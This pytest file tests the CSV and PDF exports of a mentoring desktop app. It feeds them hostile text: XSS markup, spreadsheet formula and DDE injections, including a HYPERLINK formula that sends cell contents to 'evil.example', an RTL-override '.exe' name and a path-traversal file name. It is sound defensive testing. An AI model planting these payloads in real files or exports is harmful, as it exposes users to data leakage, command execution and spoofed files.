"""Issue 16, item 3 (exports): learner and platform text in the meeting record and the mastery record, written
as CSV and PDF. Markup stays text, a spreadsheet never takes a cell for a formula, a 1 MB line neither hangs the
export nor lets the record grow without bound, and the file name offered for a record stays a plain name.
"""

from __future__ import annotations

import asyncio
import csv
import re
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtPdf import QPdfDocument
from PySide6.QtWidgets import QApplication, QFileDialog

from mentor_desk.domain.agreement import AgreementReport, CriterionSpread
from mentor_desk.domain.mastery import MasteryRecord, csv_rows, mastery_record
from mentor_desk.domain.meeting_record import MeetingRecord
from mentor_desk.services.tier5 import Tier5Service
from mentor_desk.store.store import Store
from mentor_desk.ui.meetings import export as meeting_export
from mentor_desk.ui.tier5 import mastery as mastery_pdf

from .tally import TALLY

CATEGORY = "learner content: exports"
HANG_S = 60.0  # an export still running after this long counts as a hang
MARKUP = ["<script>alert(1)</script>", "<b>bold</b><img src=x onerror=alert(1)>", "<a href='file:///etc'>link</a>"]
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
ODD = ["invoice\u202efdp.exe", "zero\u200b\u200d\ufeffwidth", "bell\x07\x1b[31mred\x1b[0m", "nul\x00byte"]
TEXTS = MARKUP + FORMULAS + ODD
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
BIG = "A" * 1_000_000  # one 1 MB line without a break


def meeting(text: str, big: str = "") -> tuple[MeetingRecord, dict[str, str]]:
    """A meeting record with ``text`` in every field someone else wrote (``big`` as the feedback if given)."""
    spread = CriterionSpread("1", "r", "c", text, {"Maya": 3.0, text: 2.0}, 4)
    record = MeetingRecord(title=text, lead=text, members=("Maya", text), report=AgreementReport(criteria=(spread,)),
                           decision="approve", feedback=big or text, notes=text, comments={"Maya": text})
    return record, {"1": text}


def mastery(text: str) -> MasteryRecord:
    detail = {"id": "r1", "kind": "mission", "status": "approved", "attempt": 1, "mentor_score": 80.0,
              "mission": {"code": text, "title": text, "subtasks": [{"id": 1, "title": text}]},
              "rubrics": {"r": {"criteria": [{"id": "c", "title": text}]}},
              "stages": [{"name": "final", "scores": {"subtask_scores": {"1": {"c": 3}}, "mission_score": 80.0}}]}
    return mastery_record(text, f"{text}@example.org", "DEFENDER_5", [detail])


def finished(work: Callable[[], None], what: str) -> bool:
    """Run ``work`` in a thread (as the desk does); False, and a hang in the tally, if it outlives ``HANG_S``."""
    thread = threading.Thread(target=work, daemon=True)
    thread.start()
    thread.join(HANG_S)
    if thread.is_alive():
        TALLY.bad(CATEGORY, "hangs", f"{what} still writing after {HANG_S:g} s")
    return not thread.is_alive()


def pdf_text(path: Path) -> str:
    document = QPdfDocument()
    assert document.load(str(path)) == QPdfDocument.Error.None_
    return " ".join(document.getAllText(page).text() for page in range(document.pageCount()))


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def check_csv(path: Path, text: str, what: str) -> None:
    """No cell a spreadsheet would run as a formula; the text itself is kept (behind a leading apostrophe)."""
    TALLY.tried_cases(CATEGORY)
    written = cells(path)
    live = [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(c)]
    if live:
        TALLY.bad(CATEGORY, "unsafe text", f"{what}: a spreadsheet formula in {live[0][:40]!r}")
    assert not live, live
    assert text in written or f"'{text}" in written, (what, written[:5])


def check_pdf(path: Path, text: str, what: str) -> None:
    """The PDF opens and shows markup as the characters the learner typed."""
    TALLY.tried_cases(CATEGORY)
    shown = "".join(pdf_text(path).split())  # where a cell wraps a line, the text gains a break
    if text in MARKUP and "".join(text.split()) not in shown:
        TALLY.bad(CATEGORY, "unsafe text", f"{what}: {text!r} is not shown as text")
    assert text not in MARKUP or "".join(text.split()) in shown, (what, shown[:300])


@pytest.mark.parametrize("text", TEXTS)
def test_hostile_text_in_the_meeting_record(qapp: Any, text: str, tmp_path: Path) -> None:
    record, titles = meeting(text)
    csv_path, pdf_path = tmp_path / "meeting.csv", tmp_path / "meeting.pdf"
    meeting_export.write_csv(csv_path, record, titles)
    assert finished(lambda: meeting_export.write_pdf(pdf_path, record, titles), "the meeting record's PDF")
    check_csv(csv_path, text, "the meeting record's CSV")
    check_pdf(pdf_path, text, "the meeting record's PDF")


@pytest.mark.parametrize("text", TEXTS)
def test_hostile_text_in_the_mastery_record(qapp: Any, text: str, tmp_path: Path) -> None:
    record = mastery(text)
    csv_path, pdf_path = tmp_path / "mastery.csv", tmp_path / "mastery.pdf"

    async def write_csv() -> None:
        store = await Store.open_path(tmp_path / "store.sqlite3")
        try:
            await Tier5Service(store, lambda: "full", lambda: None).export_csv(record, csv_path)
        finally:
            await store.close()

    asyncio.run(write_csv())
    chart = mastery_pdf.chart_image(record).copy()
    assert finished(lambda: mastery_pdf.write_pdf(pdf_path, mastery_pdf.record_html(record), chart),
                    "the mastery record's PDF")
    check_csv(csv_path, text, "the mastery record's CSV")
    check_pdf(pdf_path, text, "the mastery record's PDF")
    assert len(cells(csv_path)) == len(csv_rows(record)) * len(csv_rows(record)[0])


@pytest.mark.parametrize("where", ["meeting", "mastery"])
def test_a_one_megabyte_line_neither_hangs_a_pdf_export_nor_fills_it(qapp: Any, where: str, tmp_path: Path) -> None:
    pdf_path = tmp_path / f"{where}.pdf"
    TALLY.tried_cases(CATEGORY)
    if where == "meeting":
        record, titles = meeting("Ordinary title", BIG)
        assert finished(lambda: meeting_export.write_pdf(pdf_path, record, titles), "a PDF with a 1 MB line")
    else:
        big = mastery(BIG)
        chart = mastery_pdf.chart_image(big).copy()
        assert finished(lambda: mastery_pdf.write_pdf(pdf_path, mastery_pdf.record_html(big), chart),
                        "a PDF with a 1 MB line")
    shown = pdf_text(pdf_path)
    assert "more characters" in shown and pdf_path.stat().st_size < 2_000_000, shown[-300:]


def test_the_file_name_offered_for_a_mastery_record_is_a_plain_name(qtbot: Any, tmp_path: Path) -> None:
    record = mastery("../../..\\etc/passwd\u202efdp.exe\u200b\x00 <b>x</b>")
    store = asyncio.run(Store.open_path(tmp_path / "store.sqlite3"))
    dialog = mastery_pdf.MasteryDialog(record, Tier5Service(store, lambda: "full", lambda: None))
    qtbot.addWidget(dialog)
    dialog.show()
    dialog.activateWindow()
    qtbot.waitUntil(dialog.isActiveWindow)
    qtbot.keyClick(QApplication.focusWidget(), Qt.Key.Key_P, Qt.KeyboardModifier.AltModifier)  # Export &PDF…
    qtbot.waitUntil(lambda: bool(dialog.findChildren(QFileDialog)))
    chooser = dialog.findChildren(QFileDialog)[0]
    offered = Path(chooser.selectedFiles()[0])
    TALLY.tried_cases(CATEGORY)
    plain = offered.parent == Path(chooser.directory().absolutePath()) and \
        all(c.isalnum() or c in "-." for c in offered.name)
    if not plain:
        TALLY.bad(CATEGORY, "unsafe text", f"the file name offered is {offered}")
    chooser.reject()
    asyncio.run(store.close())
    assert plain, offered
